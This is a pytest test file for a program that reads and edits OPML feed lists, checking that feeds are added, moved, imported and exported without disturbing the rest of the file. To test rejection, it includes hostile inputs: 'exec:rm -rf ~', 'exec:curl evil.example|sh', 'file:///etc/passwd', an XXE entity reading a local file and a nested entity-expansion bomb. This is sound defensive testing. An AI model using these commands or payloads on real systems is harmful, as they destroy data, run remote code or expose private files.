"""The person's feed list: read strictly, changed only where a feed comes or goes, never lost."""

from __future__ import annotations

import re
import time
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from defusedxml.ElementTree import fromstring
from hypothesis import given, settings
from hypothesis import strategies as st

from curate.errors import CurateError, Refused, Unknown, UsageError
from curate.feeds.opml import (
    Subscription,
    add_feed,
    edit_feed,
    export_feeds,
    feed_key,
    feeds_in,
    import_feeds,
    read_feeds,
    remove_feed,
    variant_key,
)
from tests.conftest import CORPORA

if TYPE_CHECKING:
    from pathlib import Path

LIST = """<?xml version="1.0" encoding="UTF-8"?>
<!-- mine -->
<opml version="2.0" xmlns:my="https://my.example/ns">
  <head>
    <title>Feeds</title>
    <my:note kind='odd'  >kept &amp; cherished</my:note>
  </head>
  <body>
    <!-- the good ones -->
    <outline text='Ops'   my:colour="red" isOpen="true">
      <outline type="rss" text="Field notes" htmlUrl="https://notes.example/"   xmlUrl="https://notes.example/feed"  />
      <outline text="Deep"/>
    </outline>

    <outline type="rss" text="Quiet" title="Quiet systems" xmlUrl="https://quiet.example/feed.atom"
             description="two
lines"/>
    <!-- the end -->
  </body>
</opml>
"""
NOTES = Subscription(
    url="https://notes.example/feed", title="Field notes", folder="Ops", site_url="https://notes.example/"
)
QUIET = Subscription(url="https://quiet.example/feed.atom", title="Quiet systems")
NEW = Subscription(url="https://new.example/feed", title='New & "good" <ones>', site_url="https://new.example/")
NEW_LINE = (
    '<outline type="rss" text=\'New &amp; "good" &lt;ones&gt;\' title=\'New &amp; "good" &lt;ones&gt;\''
    ' xmlUrl="https://new.example/feed" htmlUrl="https://new.example/"/>'
)


QUIET_LINE = (
    '<outline type="rss" text="Quiet" title="Quiet systems" xmlUrl="https://quiet.example/feed.atom"'
    ' description="two lines"/>'
)


@pytest.fixture
def path(tmp_path: Path) -> Path:
    """A person's own list, written by hand."""
    path = tmp_path / "feeds.opml"
    path.write_text(LIST, encoding="utf-8")
    return path


NAMES = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=20)


def opml(*outlines: str) -> bytes:
    return f'<opml version="1.0"><head/><body>{"".join(outlines)}</body></opml>'.encode()


def outline(url: str, text: str = "x") -> str:
    return f'<outline text="{text}" xmlUrl="{url}"/>'


# Reading


def test_feeds_are_read_with_their_folders(path: Path) -> None:
    assert read_feeds(path) == [NOTES, QUIET]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (LIST.replace("</body>", ""), "line 20, column 3: mismatched tag"),
        (LIST.replace("&amp;", "&"), "line 6, column 33: not well-formed"),
        ("<html><body/></html>", "not a feed list"),
        ("<opml version='2.0'><head/></opml>", "not a feed list"),
        (f'<!DOCTYPE opml [<!ENTITY a "b">]>{LIST.splitlines()[2]}</opml>', "declares the entity “a”"),
        (" \n", "is empty"),
    ],
)
def test_a_list_that_cannot_be_read_is_said_where_and_left_alone(path: Path, text: str, said: str) -> None:
    path.write_text(text, encoding="utf-8")
    for change in (lambda: add_feed(path, NEW), lambda: remove_feed(path, QUIET.url), lambda: read_feeds(path)):
        with pytest.raises(CurateError) as error:
            change()
        assert said in error.value.message
        assert str(path) in error.value.message
    assert path.read_text(encoding="utf-8") == text


def test_a_vanished_list_is_not_an_empty_one(path: Path) -> None:
    path.unlink()
    with pytest.raises(CurateError, match="cannot be read"):
        read_feeds(path)
    with pytest.raises(CurateError):
        add_feed(path, NEW)
    assert not path.exists()


# Changing


def test_a_new_feed_gets_one_line_and_nothing_else_moves(path: Path) -> None:
    assert add_feed(path, NEW)
    assert path.read_text(encoding="utf-8") == LIST.replace("  </body>", f"    {NEW_LINE}\n  </body>")
    assert read_feeds(path)[-1] == NEW


@pytest.mark.parametrize(
    ("folder", "before", "after"),
    [
        ("Ops", "    </outline>\n\n", "      {}\n    </outline>\n\n"),
        ("ops / deep", '<outline text="Deep"/>', '<outline text="Deep">\n        {}\n      </outline>'),
        (
            "Ops/More",
            "    </outline>\n\n",
            '      <outline text="More" title="More">\n        {}\n      </outline>\n    </outline>\n\n',
        ),
        (
            "Work/A & B",
            "  </body>",
            (
                '    <outline text="Work" title="Work">\n      <outline text="A &amp; B" title="A &amp; B">\n'
                "        {}\n      </outline>\n    </outline>\n  </body>"
            ),
        ),
    ],
)
def test_a_feed_goes_into_its_folder_which_is_made_when_missing(
    path: Path, folder: str, before: str, after: str
) -> None:
    wanted = Subscription(url=NEW.url, title=NEW.title, folder=folder, site_url=NEW.site_url)
    assert add_feed(path, wanted)
    assert path.read_text(encoding="utf-8") == LIST.replace(before, after.format(NEW_LINE))


def test_a_removed_feed_takes_its_lines_along_and_nothing_else(path: Path) -> None:
    assert remove_feed(path, NOTES.url) == NOTES
    lines = LIST.splitlines(keepends=True)
    assert path.read_text(encoding="utf-8") == "".join(line for line in lines if "Field notes" not in line)
    assert remove_feed(path, "http://quiet.example/feed.atom/") == QUIET
    assert read_feeds(path) == []
    assert "<!-- the end -->" in path.read_text(encoding="utf-8")
    with pytest.raises(Unknown):
        remove_feed(path, QUIET.url)


@pytest.mark.parametrize(
    "text",
    [
        LIST.replace("\n", "\r\n"),
        LIST.replace("  ", "\t"),
        opml(outline("https://a.example/")).decode(),
        "<opml version='2.0'><body/></opml>",
        "<opml version='2.0'>\n<body></body></opml>",
        "<opml version='2.0'>\n\t<body>\n\t</body>\n</opml>",
        "<?xml version='1.0' encoding='iso-8859-1'?>\n<opml version='2.0'><body><outline text='Größe'/></body></opml>",
    ],
)
def test_adding_and_removing_again_leaves_the_bytes_as_they_were(path: Path, text: str) -> None:
    raw = text.encode("iso-8859-1" if "iso-8859-1" in text else "utf-8")
    path.write_bytes(raw)
    before = read_feeds(path)
    wanted = Subscription(url=NEW.url, title="Größe – 日本")
    assert add_feed(path, wanted)
    assert read_feeds(path) == [*before, wanted]
    remove_feed(path, NEW.url)
    assert read_feeds(path) == before
    kept = path.read_bytes()
    if b"<body/>" not in raw and b"<body></body>" not in raw:
        assert kept == raw


def test_removing_a_feed_keeps_what_lies_inside_it(path: Path) -> None:
    path.write_bytes(opml(f'<outline text="a" xmlUrl="https://a.example/">{outline("https://b.example/")}</outline>'))
    remove_feed(path, "https://a.example/")
    assert [each.url for each in read_feeds(path)] == ["https://b.example/"]


@pytest.mark.parametrize(
    "url",
    [
        "http://quiet.example/feed.atom",
        "https://QUIET.example:443/feed.atom",
        "https://quiet.example/feed.atom/",
        "https://quiet.example/feed.atom#top",
        "feed://quiet.example/feed.atom",
    ],
)
def test_a_known_feed_in_other_words_is_not_added(path: Path, url: str) -> None:
    assert not add_feed(path, Subscription(url=url))
    assert path.read_text(encoding="utf-8") == LIST


@pytest.mark.parametrize("url", ["exec:rm -rf ~", "file:///etc/passwd", "|cmd", "notes.example/feed", ""])
def test_only_addresses_of_the_web_are_added(path: Path, url: str) -> None:
    with pytest.raises(UsageError):
        add_feed(path, Subscription(url=url))
    assert path.read_text(encoding="utf-8") == LIST


def test_two_addresses_of_a_feed_have_one_key() -> None:
    assert feed_key("HTTP://A.example:80/f/#x") == feed_key("https://a.example/f")
    assert feed_key("https://a.example/f?b=1") != feed_key("https://a.example/f?b=2")
    assert feed_key("http://[") == "http://["


# Editing


def edited(path: Path, url: str, /, **changes: str | int | bool) -> tuple[Subscription, str]:
    return edit_feed(path, url, **changes), path.read_text(encoding="utf-8")


def test_pausing_and_resuming_touch_one_tag_and_leave_the_bytes_as_they_were(path: Path) -> None:
    feed, text = edited(path, NOTES.url, paused=True)
    assert feed == replace(NOTES, paused=True)
    assert text == LIST.replace('notes.example/feed"  />', 'notes.example/feed" paused="true"  />')
    assert read_feeds(path)[0].paused
    assert edited(path, NOTES.url, paused=True)[1] == text
    assert edited(path, NOTES.url, paused=False) == (NOTES, LIST)


def test_an_edit_changes_the_words_it_is_about_and_no_others(path: Path) -> None:
    feed, text = edited(
        path, "http://quiet.example/feed.atom/", title='Q & "A"', every=240, url="https://q.example/f?a=1&b=2"
    )
    assert feed == Subscription(url="https://q.example/f?a=1&b=2", title='Q & "A"', every=240)
    assert text == LIST.replace(
        """text="Quiet" title="Quiet systems" xmlUrl="https://quiet.example/feed.atom"
             description="two
lines"/>""",
        """text='Q &amp; "A"' title='Q &amp; "A"' xmlUrl="https://q.example/f?a=1&amp;b=2"
             description="two
lines" every="240"/>""",
    )
    assert read_feeds(path)[1] == feed
    assert edited(path, feed.url, every=0)[0].every == 0


def test_a_moved_feed_keeps_all_it_says_and_nothing_else_moves(path: Path) -> None:
    feed, text = edited(path, QUIET.url, folder="Ops/New")
    assert feed == replace(QUIET, folder="Ops/New")
    assert set(read_feeds(path)) == {NOTES, feed}
    lines = LIST.splitlines()
    assert [line for line in text.splitlines() if line not in lines] == [
        '      <outline text="New" title="New">',
        f"        {QUIET_LINE}",
        "      </outline>",
    ]
    assert edited(path, QUIET.url, folder="")[0] == QUIET
    assert set(read_feeds(path)) == {NOTES, QUIET}


def test_an_edit_that_cannot_be_meant_changes_nothing(path: Path) -> None:
    with pytest.raises(Unknown):
        edit_feed(path, "https://nowhere.example/", paused=True)
    for url in (NOTES.url, "http://notes.example/feed/", "file:///etc/passwd"):
        with pytest.raises(UsageError):
            edit_feed(path, QUIET.url, url=url)
    assert path.read_text(encoding="utf-8") == LIST


@given(NAMES, st.integers(0, 9_999), st.booleans())
@settings(max_examples=60, deadline=None)
def test_what_is_written_is_what_is_read(
    tmp_path_factory: pytest.TempPathFactory,
    title: str,
    every: int,
    paused: bool,  # noqa: FBT001 - hypothesis gives them in their order
) -> None:
    path = tmp_path_factory.mktemp("list") / "feeds.opml"
    path.write_text(LIST, encoding="utf-8")
    wanted = edit_feed(path, QUIET.url, title=title, every=every, paused=paused)
    there = read_feeds(path)[1]
    assert (there.every, there.paused, there.url) == (every, paused, QUIET.url)
    assert there.title == (wanted.title or QUIET.url)
    assert read_feeds(path)[0] == NOTES
    exported = export_feeds(path)
    path.write_bytes(opml())
    import_feeds(path, exported.encode())
    assert there in read_feeds(path)
    assert export_feeds(path) == exported


# Importing and exporting


def test_an_import_says_what_came_of_each_feed(path: Path) -> None:
    report = import_feeds(
        path,
        opml(
            '<outline text="CI/CD">',
            outline("https://a.example/feed", "A &lt;b&gt;bold&lt;/b&gt; name"),
            "</outline>",
            outline("feed:https://b.example/feed"),
            outline("HTTP://quiet.example/feed.atom"),
            outline("https://a.example/feed/"),
            outline("exec:curl evil.example|sh"),
            outline("", "nothing"),
            '<outline type="RSS" text="c" url="https://c.example/feed" XMLURL="https://d.example/feed"/>',
            '<outline type="link" text="e" url="https://e.example/"/>',
        ),
    )
    assert [(each.url, each.title, each.folder) for each in report.added] == [
        ("https://a.example/feed", "A bold name", "CI/CD"),
        ("https://b.example/feed", "x", ""),
        ("https://d.example/feed", "c", ""),
    ]
    assert report.known == ("http://quiet.example/feed.atom", "https://a.example/feed/")
    assert report.refused == (
        ("exec:curl evil.example|sh", "begins with exec: and only http and https are read"),
        ("nothing", "has no address"),
    )
    assert read_feeds(path)[-1].folder == "CI/CD"
    assert path.read_text(encoding="utf-8").count("CI/CD") == 2  # one folder: its text and its title


FOLDERS = st.lists(st.sampled_from(["Work", "A/B", "Größe", " ", "x" * 300]), max_size=3)
FEEDS = st.lists(st.tuples(st.sampled_from("abcdefgh"), NAMES, FOLDERS), max_size=12)


@given(FEEDS)
@settings(max_examples=60, deadline=None)
def test_importing_a_list_thrice_is_importing_it_once(
    tmp_path_factory: pytest.TempPathFactory, feeds: list[tuple[str, str, list[str]]]
) -> None:
    path = tmp_path_factory.mktemp("list") / "feeds.opml"
    path.write_text(LIST, encoding="utf-8")
    exported = tmp_path_factory.mktemp("other") / "feeds.opml"
    exported.write_bytes(opml())
    for host, name, folders in feeds:
        add_feed(exported, Subscription(url=f"https://{host}.example/", title=name, folder="/".join(folders)))
    data = exported.read_bytes()
    import_feeds(path, data)
    once = path.read_bytes()
    for _ in range(2):
        assert import_feeds(path, data).added == ()
    assert path.read_bytes() == once
    assert {each.url for each in read_feeds(path)} == {
        NOTES.url,
        QUIET.url,
        *(f"https://{host}.example/" for host, _, _ in feeds),
    }


def test_an_export_is_plain_opml_that_imports_as_the_same_feeds(path: Path, tmp_path: Path) -> None:
    add_feed(path, Subscription(url=NEW.url, title=NEW.title, folder="Ops/Deep"))
    exported = export_feeds(path)
    root = fromstring(exported)
    assert (root.tag, root.get("version")) == ("opml", "2.0")
    assert all(each.get("text") for each in root.iter("outline"))
    assert all(each.get("type") == "rss" for each in root.iter("outline") if each.get("xmlUrl"))
    assert "<my:note kind='odd'  >kept &amp; cherished</my:note>" in exported
    assert 'my:colour="red" isOpen="true"' in exported
    other = tmp_path / "other.opml"
    other.write_bytes(opml())
    import_feeds(other, exported.encode())
    assert set(read_feeds(other)) == set(read_feeds(path))
    assert export_feeds(other) == exported


OTHER = b"""<?xml version="1.0"?>
<opml version="1.1" xmlns:fz="urn:forumzilla:" xmlns:q="urn:q"><head><title>Theirs</title><ownerName>Dana</ownerName>
<q:mark>1</q:mark></head><body>
<outline text="Ops" fz:open="yes" sort="name"><outline text="A" title="A &amp;amp; B" type="atom" fz:quickMode="true"
 category="/x,/y" description="1 &lt; 2" xmlUrl="https://a.example/feed" bad:x="1" version="RSS2"/>
</outline></body></opml>"""


def test_what_another_program_says_of_a_feed_is_kept(path: Path) -> None:
    import_feeds(path, OTHER.replace(b' bad:x="1"', b""))
    text = path.read_text(encoding="utf-8")
    assert (
        '<outline type="rss" text="A" title="A &amp; B" xmlUrl="https://a.example/feed" fz:quickMode="true"'
        ' category="/x,/y" description="1 &lt; 2" version="RSS2" xmlns:fz="urn:forumzilla:"/>'
    ) in text
    assert read_feeds(path)[1] == Subscription(url="https://a.example/feed", title="A & B", folder="Ops")
    assert "sort" not in text  # the folder was there, and is the person's
    assert "Theirs" not in text
    fromstring(text)


def test_when_a_feed_is_read_is_taken_over_and_only_where_it_is_said_plainly(path: Path) -> None:
    said = ('Every="240" paused="Yes', 'every="4h" paused="no', 'every="99999999" paused="')
    given = [outline(f'https://{host}.example/feed" {words}', host) for host, words in zip("abc", said, strict=True)]
    added = import_feeds(path, opml(*given)).added
    assert [(each.every, each.paused) for each in added] == [(240, True), (0, False), (0, False)]
    assert tuple(read_feeds(path)[-3:]) == added
    text = path.read_text(encoding="utf-8")
    assert 'xmlUrl="https://a.example/feed" every="240" paused="true"/>' in text
    assert "4h" not in text
    assert "999" not in text


def test_a_prefix_that_nobody_declares_is_left_out(path: Path) -> None:
    import_feeds(path, OTHER)
    text = path.read_text(encoding="utf-8")
    assert "bad:x" not in text
    fromstring(text)
    fromstring(export_feeds(path))


def test_a_list_without_feeds_takes_all_the_other_says(path: Path) -> None:
    path.write_bytes(b"<opml version='2.0'><head><title>Feeds</title></head><body/></opml>")
    import_feeds(path, OTHER.replace(b' bad:x="1"', b""))
    exported = export_feeds(path)
    assert '<opml version="2.0" xmlns:fz="urn:forumzilla:" xmlns:q="urn:q">' in exported
    assert "<title>Feeds</title>\n    <ownerName>Dana</ownerName>\n    <q:mark>1</q:mark>\n" in exported
    assert '<outline text="Ops" title="Ops" fz:open="yes" sort="name">' in exported
    assert exported.count("xmlns:fz") == 1
    fromstring(exported)


VARIANTS = {
    "https://www.quiet.example/feed.atom": True,
    "https://quiet.example/feed.atom/": True,
    "https://quiet.example:443/feed.atom": False,  # the same address
    "feed:https://quiet.example/feed.atom": False,
    "http://quiet.example/feed.atom": False,  # the listed one is the better
    "https://quiet.example/feed.atom?utm_source=x": False,
}


@pytest.mark.parametrize(("url", "proposed"), VARIANTS.items())
def test_another_address_of_a_listed_feed_is_proposed_and_taken_only_when_asked(
    path: Path, url: str, *, proposed: bool
) -> None:
    report = import_feeds(path, opml(outline(url)))
    assert report.added == ()
    assert path.read_text(encoding="utf-8") == LIST
    assert report.variants == (((QUIET.url, url),) if proposed else ())
    assert len(report.known) == (not proposed)
    import_feeds(path, opml(outline(url)), merge=True)
    once = path.read_text(encoding="utf-8")
    assert once == LIST.replace(QUIET.url, url if proposed else QUIET.url)
    assert import_feeds(path, opml(outline(url)), merge=True).variants == ()
    assert path.read_text(encoding="utf-8") == once


def test_a_list_that_has_both_addresses_proposes_neither(path: Path) -> None:
    data = opml(outline(QUIET.url), outline("https://www.quiet.example/feed.atom"))
    assert import_feeds(path, data, merge=True).variants == ()
    assert path.read_text(encoding="utf-8") == LIST


@pytest.mark.parametrize(
    "data", [b"", b"\0\1", b"{}", b"https://a.example/feed", b"<html><body>x</body></html>", b"<" * 500]
)
def test_what_is_no_feed_list_is_refused(path: Path, data: bytes) -> None:
    with pytest.raises(Refused):
        import_feeds(path, data)
    assert path.read_text(encoding="utf-8") == LIST


def test_a_carelessly_written_list_gives_all_its_feeds() -> None:
    careless = (
        b'<opml><body><outline text="R&D" description="by "Jen" <a href="https://x.example/" rel="me">x</a> & co."\n'
        b' xmlUrl="https://a.example/?a=1&b=2" type="rss" />\n<outline text="Deep"><outline text="B" xmlUrl="https://b.example/">'
    )
    assert [(each.url, each.title, each.folder) for each in feeds_in(careless)] == [
        ("https://a.example/?a=1&b=2", "R&D", ""),
        ("https://b.example/", "B", "Deep"),
    ]


def test_lists_in_utf_16_are_read(path: Path) -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?>' + opml(outline("https://a.example/", "Größe")).decode()
    assert [each.title for each in feeds_in(text.encode("utf-16"))] == ["Größe"]
    path.write_bytes(text.encode("utf-16"))
    assert add_feed(path, NEW)
    assert [each.title for each in read_feeds(path)] == ["Größe", NEW.title]


def test_no_list_opens_a_file_or_blows_up(path: Path) -> None:
    secret = path.with_name("secret")
    secret.write_text("https://secret.example/", encoding="utf-8")
    laughs = "".join(f'<!ENTITY a{n} "{"&a%d;" % (n - 1) * 10}">' for n in range(1, 11))  # noqa: UP031 - the braces are taken
    for subset, name in ((f'<!ENTITY x SYSTEM "{secret.as_uri()}">', "x"), (f'<!ENTITY a0 "ha">{laughs}', "a10")):
        begun = time.process_time()
        report = import_feeds(path, f"<!DOCTYPE opml [{subset}]>".encode() + opml(outline(f"&{name};", f"&{name};")))
        assert report.added == ()
        assert time.process_time() - begun < 2
    assert path.read_text(encoding="utf-8") == LIST


@pytest.mark.parametrize(
    "data",
    [
        opml(*(outline(f"https://h{number}.example/") for number in range(5_000))),
        opml(*(f'<outline text="{n}">{outline(f"https://h{n}.example/")}</outline>' for n in range(2_000))),
        opml('<outline text="a">' * 10_000 + outline("https://a.example/") + "</outline>" * 10_000),
        b'<opml><body><outline text="' + b'"' * 300_000,
        b"<opml><body>" + b"&" * 300_000,
        b"<opml><body>" + b"<outline text=" * 20_000,
    ],
)
def test_a_huge_list_costs_time_in_proportion_to_its_length(path: Path, data: bytes) -> None:
    begun = time.process_time()
    import_feeds(path, data)
    read_feeds(path)
    assert time.process_time() - begun < 5


@pytest.mark.skipif(not CORPORA.is_dir(), reason="the corpora are not here")
def test_real_lists_import_whole_and_once(path: Path) -> None:
    lists = sorted(CORPORA.rglob("*.opml"))
    assert len(lists) > 60
    before, feeds = len(read_feeds(path)), set()
    for file in lists:
        data = file.read_bytes()
        report = import_feeds(path, data)
        # Counted by what is written, not by how we read it.
        given = len(report.added) + len(report.known) + len(report.variants)
        assert given == len(re.findall(rb"\sxmlurl\s*=", data, re.IGNORECASE)), file
        assert not report.refused
        feeds |= {variant_key(each.url) for each in feeds_in(data)}
    assert len(read_feeds(path)) == before + len(feeds) > 1_000


@pytest.mark.skipif(not CORPORA.is_dir(), reason="the corpora are not here")
def test_a_real_list_thrice_is_that_list_once_and_its_export_is_complete(path: Path) -> None:
    empty = opml()
    for file in sorted(CORPORA.rglob("*.opml")):
        data = file.read_bytes()
        path.write_bytes(empty)
        import_feeds(path, data)
        once = path.read_bytes()
        for merge in (False, True):
            assert not import_feeds(path, data, merge=merge).added
            assert path.read_bytes() == once, file
        exported = export_feeds(path)
        path.write_bytes(empty)
        import_feeds(path, exported.encode())
        assert export_feeds(path) == exported, file
